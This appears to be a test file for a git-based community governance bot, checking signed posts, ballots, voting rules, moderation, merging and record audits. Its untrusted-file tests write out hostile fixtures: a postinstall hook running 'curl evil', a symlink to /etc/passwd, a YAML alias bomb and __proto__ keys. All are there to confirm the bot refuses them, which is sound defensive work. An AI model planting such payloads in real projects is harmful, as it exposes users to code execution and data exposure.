/**
 * The bot end to end on real git repositories with real ed25519 signatures:
 * each security property and each policy rule has its own named test.
 */
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { policyText, postText, proposalText, trackedCommons, type Fixture, type FileSpec } from '../repo/fixture.ts';
import { days, hours, T0 } from './clock.ts';
import { noclout, nocloutInProcess } from './cli.ts';

const commons = trackedCommons();

async function review(f: Fixture, head: string, at: string) {
  const run = await nocloutInProcess(['review', head, '--repo', f.dir, '--at', at, '--format', 'json']);
  expect(run.json, run.stderr).toBeDefined();
  return run;
}

async function merge(f: Fixture, at: string, heads: string[] = []) {
  const run = await nocloutInProcess(['merge', ...heads, '--repo', f.dir, '--at', at, '--format', 'json']);
  expect(run.json, run.stderr).toBeDefined();
  return run;
}

function post(f: Fixture, slug: string, author: string, options: { signer?: string; body?: string; extra?: Record<string, FileSpec> } = {}): string {
  const files = { [`content/posts/2026/${slug}.md`]: postText({ author, title: `Post ${slug}` }, options.body), ...options.extra };
  return f.commit(files, { branch: `post/${slug}`, ...(options.signer === '' ? {} : { signer: options.signer ?? author }) });
}

function ballot(f: Fixture, branch: string, change: string, voter: string, yaml: string, signer = voter): string {
  return f.commit({ [`governance/ballots/${change}/${voter}.yml`]: yaml }, { branch, signer, message: `ballot: ${voter} on ${change}` });
}

function proposal(f: Fixture, slug: string, author: string, files: Record<string, FileSpec> = {}, extra = ''): string {
  return f.commit({ [`content/proposals/${slug}.md`]: proposalText({ author, extra }), ...files }, { branch: `proposal/${slug}`, signer: author });
}

const counted = (j: any) => j.ballots.filter((b: any) => b.counted).map((b: any) => `${b.voter}:${b.vote}`);
const rules = (j: any) => j.problems.map((p: any) => p.rule);

describe('posts: lazy consensus', () => {
  it('a post is published once posts.objectionHours have passed since the bot first saw it', async () => {
    const f = commons();
    post(f, 'hello', 'amina');
    const first = noclout(['review', 'post/hello', '--repo', f.dir, '--at', T0, '--format', 'json']);
    expect(first.code).toBe(0);
    expect(first.json).toMatchObject({ head: 'post/hello', kind: 'post', decision: 'pending', opened: new Date(T0).toISOString(), closes: hours(24) });
    expect((await merge(f, hours(23))).json.results[0]).toMatchObject({ decision: 'pending', merged: false });
    const done = noclout(['merge', '--repo', f.dir, '--at', hours(25), '--format', 'json']);
    expect(done.code).toBe(0);
    expect(done.json.results[0]).toMatchObject({ decision: 'accept', merged: true, record: 'governance/decisions/2026/0001-hello.md' });
    expect(f.git(['show', 'main:content/posts/2026/hello.md'])).toContain('author: amina');
    const record = f.git(['show', 'main:governance/decisions/2026/0001-hello.md']);
    expect(record).toContain('outcome: accepted');
    expect(record).toContain(`closed: ${hours(25)}`);
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });

  it('editing the post restarts the objection window from when the bot first saw the new text', async () => {
    const f = commons();
    post(f, 'draft', 'amina');
    await review(f, 'post/draft', T0);
    f.commit({ 'content/posts/2026/draft.md': postText({ author: 'amina', title: 'Post draft' }, 'A new text.\n') }, { branch: 'post/draft', signer: 'amina' });
    expect((await review(f, 'post/draft', hours(20))).json).toMatchObject({ decision: 'pending', closes: hours(44) });
    expect((await merge(f, hours(25))).json.results[0]).toMatchObject({ decision: 'pending', merged: false });
    expect((await merge(f, hours(44))).json.results[0]).toMatchObject({ decision: 'accept', merged: true });
  });

  it('posts.maxPerAuthorPerWeek holds back a fourth post of the same author, counted on publication times', async () => {
    const f = commons();
    for (const slug of ['w1', 'w2', 'w3', 'w4']) post(f, slug, 'amina');
    for (const slug of ['w1', 'w2', 'w3', 'w4']) await review(f, `post/${slug}`, T0);
    const run = (await merge(f, hours(25))).json.results;
    expect(run.map((r: any) => [r.head, r.decision, r.merged])).toEqual([
      ['post/w1', 'accept', true],
      ['post/w2', 'accept', true],
      ['post/w3', 'accept', true],
      ['post/w4', 'pending', false],
    ]);
    expect(run[3].reasons.at(-1)).toContain(`published 3 posts in the last 7 days (posts.maxPerAuthorPerWeek: 3); it can be published after ${hours(8 * 24 + 1)}`);
    expect((await merge(f, days(8))).json.results[0]).toMatchObject({ head: 'post/w4', decision: 'pending' });
    expect((await merge(f, hours(8 * 24 + 1))).json.results[0]).toMatchObject({ head: 'post/w4', decision: 'accept', merged: true });
  });

  it('an objection citing a rule turns the post into a moderation vote; a missed quorum publishes it', async () => {
    const f = commons();
    post(f, 'rude', 'amina');
    await review(f, 'post/rude', T0);
    ballot(f, 'post/rude', 'rude', 'bruno', 'vote: no\nrule: be-kind\nreason: "This insults a member."\n');
    const escalated = (await review(f, 'post/rude', hours(2))).json;
    expect(escalated).toMatchObject({ decision: 'pending', closes: hours(2 + 72) });
    expect(escalated.reasons[0]).toContain('objection');
    // 1 of 5 voted: the moderation quorum (1/4) is not met, so the post is not stopped.
    const closed = (await merge(f, hours(80))).json.results[0];
    expect(closed).toMatchObject({ decision: 'accept', merged: true, tally: { no: 1, quorumMet: false } });
    expect(f.git(['show', 'main:governance/decisions/2026/0001-rude.md'])).toContain('This insults a member.');
  });

  it('an objection citing a rule that does not exist does not count', async () => {
    const f = commons();
    post(f, 'fine-post', 'amina');
    await review(f, 'post/fine-post', T0);
    ballot(f, 'post/fine-post', 'fine-post', 'bruno', 'vote: no\nrule: no-such-rule\n');
    const j = (await review(f, 'post/fine-post', hours(1))).json;
    expect(j).toMatchObject({ decision: 'pending', closes: hours(24) });
    expect(j.ballots[0]).toMatchObject({ counted: false, reason: expect.stringContaining('cites rule "no-such-rule"') });
  });

  it('an upheld objection rejects the post, recorded alone on main', async () => {
    const f = commons();
    post(f, 'spam', 'amina');
    await review(f, 'post/spam', T0);
    ballot(f, 'post/spam', 'spam', 'bruno', 'vote: no\nrule: be-kind\n');
    ballot(f, 'post/spam', 'spam', 'chloe', 'vote: no\nrule: be-kind\n');
    await review(f, 'post/spam', hours(1));
    const run = await merge(f, days(4));
    expect(run.code).toBe(1);
    expect(run.json.results[0]).toMatchObject({ decision: 'reject', merged: false, record: 'governance/decisions/2026/0001-spam.md' });
    expect(() => f.git(['show', 'main:content/posts/2026/spam.md'])).toThrow();
    expect(f.git(['show', 'main:governance/decisions/2026/0001-spam.md'])).toContain('outcome: rejected');
    // The rejected branch stays, but it is no longer an open change: the next run has nothing to do.
    const next = await merge(f, days(5));
    expect(next.code).toBe(0);
    expect(next.json.results).toEqual([]);
    expect((await merge(f, days(5), ['post/spam'])).json.results[0]).toMatchObject({ decision: 'reject', merged: false, reasons: expect.arrayContaining([expect.stringContaining('already decided')]) });
  });
});

describe('authorship', () => {
  it('forged author: a post claiming another member as author is invalid', async () => {
    const f = commons();
    post(f, 'forged', 'amina', { signer: 'bruno' });
    const run = noclout(['review', 'post/forged', '--repo', f.dir, '--at', T0, '--format', 'json']);
    expect(run.code).toBe(1);
    expect(run.json.decision).toBe('invalid');
    expect(run.json.problems).toContainEqual(expect.objectContaining({ path: 'content/posts/2026/forged.md', rule: 'change/forged-author', message: expect.stringContaining('"bruno"') }));
    expect((await merge(f, days(30))).json.results[0].merged).toBe(false);
  });

  it('unsigned post: a post whose commit is not signed is invalid', async () => {
    const f = commons();
    post(f, 'anonymous', 'amina', { signer: '' });
    const j = (await review(f, 'post/anonymous', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(j.problems[0]).toMatchObject({ rule: 'change/unsigned', message: expect.stringContaining('missing signature') });
  });
});

describe('ballots', () => {
  async function openRules(f: Fixture) {
    proposal(f, 'shorter-posts', 'amina', { 'governance/rules/short.md': '---\ntitle: "Keep it short"\n---\n\nShort.\n' });
    const j = (await review(f, 'proposal/shorter-posts', T0)).json;
    expect(j).toMatchObject({ kind: 'proposal', decision: 'pending', closes: days(7) });
  }

  it('outsider ballot: a ballot by someone not in the frozen roster does not count', async () => {
    const f = commons();
    await openRules(f);
    ballot(f, 'proposal/shorter-posts', 'shorter-posts', 'zed', 'vote: yes\n');
    const j = (await review(f, 'proposal/shorter-posts', hours(1))).json;
    expect(j.ballots).toEqual([expect.objectContaining({ voter: 'zed', counted: false, reason: expect.stringContaining('not a member') })]);
    expect(j.tally.yes).toBe(0);
  });

  it("ballot in someone else's file: signed by one member in another member's file, it does not count", async () => {
    const f = commons();
    await openRules(f);
    ballot(f, 'proposal/shorter-posts', 'shorter-posts', 'chloe', 'vote: yes\n', 'bruno');
    const j = (await review(f, 'proposal/shorter-posts', hours(1))).json;
    expect(j.ballots[0]).toMatchObject({ voter: 'chloe', counted: false, reason: expect.stringContaining("someone else's file: signed by bruno") });
  });

  it('vote changed: the latest ballot of a member counts, the earlier one is superseded', async () => {
    const f = commons();
    await openRules(f);
    ballot(f, 'proposal/shorter-posts', 'shorter-posts', 'bruno', 'vote: no\n');
    await review(f, 'proposal/shorter-posts', hours(1));
    ballot(f, 'proposal/shorter-posts', 'shorter-posts', 'bruno', 'vote: yes\nreason: "Convinced."\n');
    const j = (await review(f, 'proposal/shorter-posts', hours(2))).json;
    expect(j.ballots.map((b: any) => [b.vote, b.counted])).toEqual([['no', false], ['yes', true]]);
    expect(j.ballots[0].reason).toContain('superseded');
    expect(j.tally).toMatchObject({ yes: 1, no: 0 });
  });

  it('stale ballot after a text change: a ballot cast before the text changed does not count', async () => {
    const f = commons();
    await openRules(f);
    ballot(f, 'proposal/shorter-posts', 'shorter-posts', 'bruno', 'vote: yes\n');
    const edit = f.commit({ 'governance/rules/short.md': '---\ntitle: "Keep it very short"\n---\n\nShorter.\n' }, { branch: 'proposal/shorter-posts', signer: 'amina' });
    const j = (await review(f, 'proposal/shorter-posts', hours(1))).json;
    expect(j.ballots[0]).toMatchObject({ voter: 'bruno', counted: false, reason: expect.stringContaining(`stale: commit ${edit.slice(0, 10)}`) });
  });

  it('a ballot-only branch is never merged on its own', async () => {
    const f = commons();
    f.commit({ 'governance/ballots/someone/bruno.yml': 'vote: yes\n' }, { branch: 'ballots/bruno', signer: 'bruno' });
    const j = (await review(f, 'ballots/bruno', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(j.reasons[0]).toContain('ballot-only change is never merged on its own');
  });

  it('a ballot with a bad signature does not count', async () => {
    const f = commons();
    await openRules(f);
    f.commit({ 'governance/ballots/shorter-posts/bruno.yml': 'vote: yes\n' }, { branch: 'proposal/shorter-posts' });
    const j = (await review(f, 'proposal/shorter-posts', hours(1))).json;
    expect(j.ballots[0]).toMatchObject({ voter: 'bruno', counted: false, reason: expect.stringContaining('missing signature') });
  });
});

describe('votes', () => {
  it('proposal accepted: quorum and threshold met when the vote closes', async () => {
    const f = commons();
    proposal(f, 'cite-more', 'amina', { 'governance/rules/cite-more.md': '---\ntitle: "Cite more"\n---\n\nCite.\n' });
    await review(f, 'proposal/cite-more', T0);
    ballot(f, 'proposal/cite-more', 'cite-more', 'amina', 'vote: yes\n');
    ballot(f, 'proposal/cite-more', 'cite-more', 'bruno', 'vote: yes\n');
    ballot(f, 'proposal/cite-more', 'cite-more', 'chloe', 'vote: no\nreason: "Too strict."\n');
    await review(f, 'proposal/cite-more', days(1));
    expect((await merge(f, days(6))).json.results[0]).toMatchObject({ decision: 'pending', merged: false });
    const run = noclout(['merge', 'proposal/cite-more', '--repo', f.dir, '--at', days(7), '--format', 'json']);
    expect(run.code).toBe(0);
    expect(run.json.results[0]).toMatchObject({ decision: 'accept', merged: true, tally: { eligible: 5, yes: 2, no: 1, abstain: 0, quorumMet: true, thresholdMet: true } });
    expect(f.git(['show', 'main:governance/rules/cite-more.md'])).toContain('Cite more');
    const record = f.git(['show', 'main:governance/decisions/2026/0001-cite-more.md']);
    expect(record).toContain('Too strict.');
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });

  it('quorum missed at close: too few members voted, the proposal is rejected and recorded', async () => {
    const f = commons();
    proposal(f, 'lonely', 'amina', { 'governance/rules/lonely.md': '---\ntitle: "Lonely"\n---\n\nAlone.\n' });
    await review(f, 'proposal/lonely', T0);
    ballot(f, 'proposal/lonely', 'lonely', 'amina', 'vote: yes\n');
    await review(f, 'proposal/lonely', hours(1));
    const run = await merge(f, days(8));
    expect(run.code).toBe(1);
    expect(run.json.results[0]).toMatchObject({ decision: 'reject', merged: false, tally: { yes: 1, quorumMet: false, thresholdMet: true } });
    expect(f.git(['show', 'main:governance/decisions/2026/0001-lonely.md'])).toContain('quorum not met');
    expect(() => f.git(['show', 'main:governance/rules/lonely.md'])).toThrow();
  });

  it('a proposal that also lowers the policy bar is judged as a policy change by the frozen policy', async () => {
    const f = commons();
    const lowered = policyText({ policy: '{ quorum: "1/5", threshold: { moreThan: "1/2" }, days: 1, closeEarly: true }' });
    proposal(f, 'sneaky', 'amina', { 'governance/rules/sneaky.md': '---\ntitle: "Sneaky"\n---\n\nx\n', 'governance/policy.md': lowered });
    const opened = (await review(f, 'proposal/sneaky', T0)).json;
    // The policy kind is stricter than a rule proposal, and its numbers are main's: 14 days, quorum 1/2, at least 3/4.
    expect(opened).toMatchObject({ kind: 'policy', decision: 'pending', closes: days(14) });
    ballot(f, 'proposal/sneaky', 'sneaky', 'amina', 'vote: yes\n');
    ballot(f, 'proposal/sneaky', 'sneaky', 'bruno', 'vote: yes\n');
    await review(f, 'proposal/sneaky', hours(1));
    // Under the proposed policy (quorum 1/5, 1 day, close early) it would pass now; under the frozen one it is still open.
    expect((await review(f, 'proposal/sneaky', days(2))).json).toMatchObject({ decision: 'pending', tally: { yes: 2, quorumMet: false } });
    const closed = (await merge(f, days(14))).json.results[0];
    expect(closed).toMatchObject({ decision: 'reject', kind: 'policy' });
    expect(closed.reasons[0]).toContain('voting.policy');
  });

  it('a policy change on main after the opening does not alter a vote already open', async () => {
    const f = commons();
    proposal(f, 'steady', 'amina', { 'governance/rules/steady.md': '---\ntitle: "Steady"\n---\n\nx\n' });
    await review(f, 'proposal/steady', T0);
    f.commit({ 'governance/policy.md': policyText({ rules: '{ quorum: "1/5", threshold: { moreThan: "1/2" }, days: 1, closeEarly: true }' }) }, { message: 'policy changed on main' });
    ballot(f, 'proposal/steady', 'steady', 'amina', 'vote: yes\n');
    const j = (await review(f, 'proposal/steady', days(2))).json;
    expect(j).toMatchObject({ decision: 'pending', closes: days(7) });
    expect(j.reasons[0]).toContain('quorum 1/3');
  });

  it('backdated commits: commit dates never open, shorten or close a vote', async () => {
    const f = commons();
    f.commit({ 'content/proposals/old-news.md': proposalText({ author: 'amina' }), 'governance/rules/old.md': '---\ntitle: "Old"\n---\n\nx\n' }, { branch: 'proposal/old-news', signer: 'amina', date: '2001-01-01T00:00:00Z' });
    const j = (await review(f, 'proposal/old-news', T0)).json;
    expect(j).toMatchObject({ decision: 'pending', opened: new Date(T0).toISOString(), closes: days(7) });
    f.commit({ 'governance/ballots/old-news/bruno.yml': 'vote: yes\n' }, { branch: 'proposal/old-news', signer: 'bruno', date: '2001-01-02T00:00:00Z' });
    const later = (await review(f, 'proposal/old-news', hours(3))).json;
    expect(later.opened).toBe(new Date(T0).toISOString());
    expect(later.decision).toBe('pending');
    // A ballot first seen after the close does not count, whatever date its commit claims.
    f.commit({ 'governance/ballots/old-news/chloe.yml': 'vote: yes\n' }, { branch: 'proposal/old-news', signer: 'chloe', date: '2001-01-03T00:00:00Z' });
    const closed = (await merge(f, days(8))).json.results[0];
    expect(closed.ballots.find((b: any) => b.voter === 'chloe')).toMatchObject({ counted: false, reason: expect.stringContaining('after the close') });
  });
});

describe('untrusted files', () => {
  it('symlink: a symbolic link in a change is refused', async () => {
    const f = commons();
    post(f, 'linked', 'amina', { extra: { 'content/posts/2026/linked-too.md': { symlink: '/etc/passwd' } } });
    const j = (await review(f, 'post/linked', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(j.problems).toContainEqual(expect.objectContaining({ path: 'content/posts/2026/linked-too.md', rule: 'file/not-regular' }));
  });

  it('MDX: an .mdx post is code and is refused', async () => {
    const f = commons();
    f.commit({ 'content/posts/2026/fancy.mdx': postText({ author: 'amina' }, 'export const x = 1\n') }, { branch: 'post/fancy', signer: 'amina' });
    const j = (await review(f, 'post/fancy', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(j.problems).toContainEqual(expect.objectContaining({ path: 'content/posts/2026/fancy.mdx', rule: 'path/not-allowed', message: expect.stringContaining('.mdx') }));
  });

  it('a post that touches package.json is a platform change, never merged by the bot', async () => {
    const f = commons();
    post(f, 'trojan', 'amina', { extra: { 'package.json': '{ "scripts": { "postinstall": "curl evil" } }\n' } });
    const run = noclout(['review', 'post/trojan', '--repo', f.dir, '--at', T0, '--format', 'json']);
    expect(run.code).toBe(0);
    expect(run.json).toMatchObject({ kind: 'platform', decision: 'manual' });
    expect((await merge(f, days(30))).json.results[0]).toMatchObject({ decision: 'manual', merged: false });
    expect(() => f.git(['show', 'main:package.json'])).toThrow();
  });

  it('oversized file: a post over posts.maxBytes is refused', async () => {
    const f = commons({ policy: { maxBytes: 2000 } });
    post(f, 'huge', 'amina', { body: 'word '.repeat(1000) });
    const j = (await review(f, 'post/huge', T0)).json;
    expect(j.problems).toContainEqual(expect.objectContaining({ path: 'content/posts/2026/huge.md', rule: 'file/too-large' }));
  });

  it('YAML alias bomb: anchors and aliases in front matter are refused', async () => {
    const f = commons();
    const bomb = '---\ntitle: "Bomb"\nauthor: amina\ndate: 2026-11-01\nlang: en\nx: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\ny: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nz: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n---\n\nboom\n';
    f.commit({ 'content/posts/2026/bomb.md': bomb }, { branch: 'post/bomb', signer: 'amina' });
    const j = (await review(f, 'post/bomb', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(rules(j)).toContain('yaml/alias');
  });

  it('__proto__ keys: front matter or ballots with __proto__ are refused', async () => {
    const f = commons();
    f.commit({ 'content/posts/2026/proto.md': '---\ntitle: "Proto"\nauthor: amina\ndate: 2026-11-01\nlang: en\n__proto__: { admin: true }\n---\n\nx\n' }, { branch: 'post/proto', signer: 'amina' });
    const j = (await review(f, 'post/proto', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(rules(j)).toContain('yaml/forbidden-key');
    expect(({} as any).admin).toBeUndefined();
    post(f, 'fine', 'amina');
    await review(f, 'post/fine', T0);
    ballot(f, 'post/fine', 'fine', 'bruno', 'vote: no\n__proto__: { rule: be-kind }\n');
    const withBallot = (await review(f, 'post/fine', hours(1))).json;
    expect(withBallot.ballots[0]).toMatchObject({ counted: false, reason: expect.stringContaining('malformed ballot') });
  });
});

describe('moderation', () => {
  it('an accepted moderation hides the post with a record naming the post, rule, rule version and how to appeal; an appeal restores it', async () => {
    const offer = postText({ author: 'bruno', title: 'Cheap panels' }, 'Buy my panels.\n');
    const f = commons({ posts: { 'content/posts/2026/offer.md': offer } });
    const frozen = f.rev('main');
    f.commit({ 'content/proposals/hide-offer.md': proposalText({ author: 'amina', extra: 'moderates: 2026/offer\nrule: be-kind\n' }, 'Advertising is not kind to readers.\n'), 'content/posts/2026/offer.md': null }, { branch: 'moderation/hide-offer', signer: 'amina' });
    expect((await review(f, 'moderation/hide-offer', T0)).json).toMatchObject({ kind: 'moderation', decision: 'pending', closes: days(3) });
    for (const voter of ['amina', 'chloe']) ballot(f, 'moderation/hide-offer', 'hide-offer', voter, 'vote: yes\n');
    await review(f, 'moderation/hide-offer', hours(1));
    expect((await merge(f, days(3))).json.results[0]).toMatchObject({ decision: 'accept', merged: true });
    expect(() => f.git(['show', 'main:content/posts/2026/offer.md'])).toThrow();
    const record = f.git(['show', 'main:governance/decisions/2026/0001-hide-offer.md']);
    expect(record).toMatch(new RegExp(`moderation:\\n  post: 2026/offer\\n  rule: be-kind\\n  ruleVersion: ${frozen}\\n`));
    expect(record).toContain('How to appeal');
    expect(record).toContain('reasoning of the proposal: Advertising is not kind to readers.');

    f.commit({ 'content/proposals/restore-offer.md': proposalText({ author: 'bruno', extra: 'appeals: 2026/0001-hide-offer\n' }, 'It was a one-off.\n'), 'content/posts/2026/offer.md': offer }, { branch: 'moderation/restore-offer', signer: 'bruno' });
    const opened = (await review(f, 'moderation/restore-offer', days(4))).json;
    expect(opened).toMatchObject({ kind: 'moderation', decision: 'pending', problems: [] });
    for (const voter of ['bruno', 'dmitri']) ballot(f, 'moderation/restore-offer', 'restore-offer', voter, 'vote: yes\n');
    await review(f, 'moderation/restore-offer', days(4.1));
    expect((await merge(f, days(7.5))).json.results[0]).toMatchObject({ decision: 'accept', merged: true });
    expect(f.git(['show', 'main:content/posts/2026/offer.md'])).toContain('Buy my panels.');
    expect(f.git(['show', 'main:governance/decisions/2026/0002-restore-offer.md'])).toContain('appeals: 2026/0001-hide-offer');
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });

  it('removing a post without a moderation proposal is refused', async () => {
    const f = commons({ posts: { 'content/posts/2026/keep.md': postText({ author: 'bruno' }) } });
    f.commit({ 'content/proposals/quiet.md': proposalText({ author: 'amina' }), 'content/posts/2026/keep.md': null }, { branch: 'proposal/quiet', signer: 'amina' });
    const j = (await review(f, 'proposal/quiet', T0)).json;
    expect(j.decision).toBe('invalid');
    expect(rules(j)).toContain('change/post-removed');
  });
});

describe('merging', () => {
  it('conflicting changes: the second change touching the same file is invalid with a problem naming the file', async () => {
    const f = commons();
    const rule = (title: string) => ({ 'governance/rules/be-kind.md': `---\ntitle: "${title}"\n---\n\nText.\n` });
    proposal(f, 'kinder', 'amina', rule('Be kinder'));
    proposal(f, 'kindest', 'bruno', rule('Be kindest'));
    for (const slug of ['kinder', 'kindest']) {
      await review(f, `proposal/${slug}`, T0);
      for (const voter of ['amina', 'bruno', 'chloe']) ballot(f, `proposal/${slug}`, slug, voter, 'vote: yes\n');
      await review(f, `proposal/${slug}`, hours(1));
    }
    const run = await merge(f, days(7));
    const [first, second] = run.json.results;
    expect(first).toMatchObject({ head: 'proposal/kinder', decision: 'accept', merged: true });
    expect(second).toMatchObject({ head: 'proposal/kindest', decision: 'invalid', merged: false });
    expect(second.problems).toEqual([expect.objectContaining({ path: 'governance/rules/be-kind.md', rule: 'merge/conflict', hint: expect.stringContaining('rebase') })]);
    expect(f.git(['show', 'main:governance/rules/be-kind.md'])).toContain('Be kinder');
  });

  it('a change based on an older main is merged with a merge commit built from trees', async () => {
    const f = commons();
    post(f, 'first', 'amina');
    post(f, 'second', 'bruno');
    await review(f, 'post/first', T0);
    await review(f, 'post/second', T0);
    const run = await merge(f, hours(30));
    expect(run.json.results.map((r: any) => r.merged)).toEqual([true, true]);
    const secondRecord = f.git(['show', 'main:governance/decisions/2026/0002-second.md']);
    const mergeCommit = /^merge: ([0-9a-f]{40})$/m.exec(secondRecord)![1]!;
    expect(f.git(['show', '-s', '--format=%P', mergeCommit]).split(' ')).toHaveLength(2);
    expect(f.git(['ls-tree', '-r', '--name-only', 'main'])).toContain('content/posts/2026/first.md');
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });

  it('idempotent re-run: merging again changes nothing', async () => {
    const f = commons();
    post(f, 'once', 'amina');
    await review(f, 'post/once', T0);
    await merge(f, hours(25));
    const main = f.rev('main');
    const ledger = f.rev('refs/noclout/ledger');
    const again = await merge(f, hours(26), ['post/once']);
    expect(again.json.results[0]).toMatchObject({ decision: 'accept', merged: false });
    expect(again.json.results[0].reasons[0]).toContain('already decided');
    expect(f.rev('main')).toBe(main);
    expect(f.rev('refs/noclout/ledger')).toBe(ledger);
    expect((await merge(f, hours(27))).json.results).toEqual([]);
  });

  it('two runs at once: concurrent merges never lose an update and never decide twice', async () => {
    const f = commons();
    const authors = { a1: 'amina', a2: 'bruno', a3: 'chloe', a4: 'dmitri' };
    for (const [slug, author] of Object.entries(authors)) post(f, slug, author);
    for (const slug of ['a1', 'a2', 'a3', 'a4']) await review(f, `post/${slug}`, T0);
    const bin = fileURLToPath(new URL('../../bin/noclout.ts', import.meta.url));
    const runOnce = () =>
      new Promise<number>((resolve) => {
        const child = spawn(process.execPath, [bin, 'merge', '--repo', f.dir, '--at', hours(25), '--format', 'json'], { stdio: 'ignore' });
        child.on('exit', (code) => resolve(code ?? -1));
      });
    const codes = await Promise.all([runOnce(), runOnce(), runOnce()]);
    expect(codes).toEqual([0, 0, 0]);
    const tree = f.git(['ls-tree', '-r', '--name-only', 'main']).split('\n');
    for (const slug of ['a1', 'a2', 'a3', 'a4']) expect(tree).toContain(`content/posts/2026/${slug}.md`);
    const records = tree.filter((p) => p.startsWith('governance/decisions/'));
    expect(records).toHaveLength(4);
    expect(records.map((p) => p.split('/').pop()!.slice(0, 4)).sort()).toEqual(['0001', '0002', '0003', '0004']);
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });
});

describe('crash safety', () => {
  it('a lock left on main by a crashed git process stops the merge with main untouched and says what to do', async () => {
    const f = commons();
    post(f, 'locked', 'amina');
    await review(f, 'post/locked', T0);
    const before = f.rev('main');
    const { writeFileSync, rmSync } = await import('node:fs');
    writeFileSync(`${f.dir}/.git/refs/heads/main.lock`, '');
    const run = noclout(['merge', '--repo', f.dir, '--at', hours(25)]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('main.lock exists');
    expect(f.rev('main')).toBe(before);
    rmSync(`${f.dir}/.git/refs/heads/main.lock`);
    expect((await merge(f, hours(25))).json.results[0]).toMatchObject({ decision: 'accept', merged: true });
  });

  it('--dry-run judges without writing anything, not even the opening', async () => {
    const f = commons();
    post(f, 'dry', 'amina');
    const run = await nocloutInProcess(['merge', '--dry-run', '--repo', f.dir, '--at', T0, '--format', 'json']);
    expect(run.json.results[0]).toMatchObject({ decision: 'pending', merged: false });
    expect(f.git(['for-each-ref', 'refs/noclout'])).toBe('');
  });
});

describe('audit', () => {
  it('audit catching a hand-edited record: a record changed after the bot wrote it is reported', async () => {
    const f = commons();
    proposal(f, 'edited', 'amina', { 'governance/rules/edited.md': '---\ntitle: "Edited"\n---\n\nx\n' });
    await review(f, 'proposal/edited', T0);
    ballot(f, 'proposal/edited', 'edited', 'amina', 'vote: yes\n');
    await review(f, 'proposal/edited', hours(1));
    await merge(f, days(7));
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
    const path = 'governance/decisions/2026/0001-edited.md';
    const text = f.git(['show', `main:${path}`]);
    f.commit({ [path]: text.replace('outcome: rejected', 'outcome: accepted') }, { message: 'fix the record' });
    const run = noclout(['audit', '--repo', f.dir, '--format', 'json']);
    expect(run.code).toBe(1);
    expect(run.json.findings.map((x: any) => x.rule)).toEqual(expect.arrayContaining(['audit/edited-by-hand', 'audit/outcome']));
    const human = noclout(['audit', '--repo', f.dir]);
    expect(human.stdout).toContain(`${path}: the record does not match its digest`);
  });
});

describe('the clock', () => {
  it('never moves backwards in a record: --at earlier than the last decision is refused, naming it', async () => {
    const f = commons();
    post(f, 'early', 'amina');
    post(f, 'late', 'bruno');
    await review(f, 'post/early', T0);
    await review(f, 'post/late', T0);
    await merge(f, hours(30), ['post/early']);
    const refused = await nocloutInProcess(['merge', 'post/late', '--repo', f.dir, '--at', hours(25)]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`governance/decisions/2026/0001-early.md, closed ${hours(30)}`);
    const second = (await merge(f, hours(30), ['post/late'])).json.results[0];
    expect(second).toMatchObject({ decision: 'accept', merged: true });
    expect(f.git(['show', `main:${second.record}`])).toContain(`closed: ${hours(30)}`);
    expect(noclout(['audit', '--repo', f.dir]).code).toBe(0);
  });
});

describe('audit replays', () => {
  it('a forged record with a recomputed digest is caught by the replay of its votes', async () => {
    const { sealRecord } = await import('../../src/commons/record-digest.ts');
    const f = commons();
    proposal(f, 'forged', 'amina', { 'governance/rules/forged.md': '---\ntitle: "Forged"\n---\n\nx\n' });
    await review(f, 'proposal/forged', T0);
    ballot(f, 'proposal/forged', 'forged', 'amina', 'vote: yes\n');
    await review(f, 'proposal/forged', hours(1));
    await merge(f, days(7));
    const path = 'governance/decisions/2026/0001-forged.md';
    const text = f.git(['show', `main:${path}`]);
    const forged = sealRecord(`${text.replace('outcome: rejected', 'outcome: accepted').replace('yes: 1', 'yes: 4').replace('quorumMet: false', 'quorumMet: true')}\n`);
    f.commit({ [path]: forged }, { message: 'a record rewritten with a fresh digest' });
    const run = noclout(['audit', '--repo', f.dir, '--format', 'json']);
    expect(run.code).toBe(1);
    const found = run.json.findings.map((x: any) => x.rule);
    expect(found).not.toContain('audit/edited-by-hand');
    expect(found).toEqual(expect.arrayContaining(['audit/outcome', 'audit/tally']));
  });
});

describe('command line', () => {
  it('human output explains the tally, the ballots and what to do next', async () => {
    const f = commons();
    proposal(f, 'explain', 'amina', { 'governance/rules/explain.md': '---\ntitle: "Explain"\n---\n\nx\n' });
    await review(f, 'proposal/explain', T0);
    ballot(f, 'proposal/explain', 'explain', 'zed', 'vote: yes\n');
    const run = noclout(['review', 'proposal/explain', '--repo', f.dir, '--at', hours(1)]);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('proposal/explain: proposal change, pending');
    expect(run.stdout).toContain('tally: 0 yes, 0 no, 0 abstain of 5 eligible');
    expect(run.stdout).toMatch(/not counted zed yes .*not a member/);
    expect(run.stdout).toContain('next: members vote with noclout vote explain yes|no|abstain (a ballot signed with their key, docs/voting.md)');
    expect(run.stdout).not.toContain('by committing governance/ballots/');
  });

  it('usage errors exit with 2', () => {
    expect(noclout(['review']).code).toBe(2);
    const f = commons();
    const unknown = noclout(['review', 'no/such-branch', '--repo', f.dir]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('"no/such-branch" names no commit');
    expect(noclout(['review', 'x', '--repo', '/nonexistent-noclout']).code).toBe(2);
  });
});
